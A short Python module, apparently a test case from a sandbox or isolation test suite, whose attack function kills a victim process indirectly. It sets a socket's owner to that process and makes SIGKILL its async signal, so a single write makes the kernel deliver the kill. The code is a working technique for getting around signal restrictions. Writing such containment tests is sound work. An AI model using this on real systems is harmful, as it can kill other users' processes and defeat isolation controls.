"""Kill another process as the owner of a socket, by F_SETOWN_EX or by ioctl."""

import fcntl
import os
import signal
import socket
import struct

FAMILY = "signals"
F_SETSIG, F_SETOWN_EX, F_OWNER_PID, FIOSETOWN = 10, 15, 1, 0x8901


def attack(world):
    one, other = socket.socketpair()
    try:
        fcntl.fcntl(one, F_SETOWN_EX, struct.pack("ii", F_OWNER_PID, world["victim"]))
    except OSError:
        fcntl.ioctl(one, FIOSETOWN, struct.pack("i", world["victim"]))
    fcntl.fcntl(one, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(one, fcntl.F_SETFL, fcntl.fcntl(one, fcntl.F_GETFL) | os.O_ASYNC)
    other.send(b"x")
    return "sent"
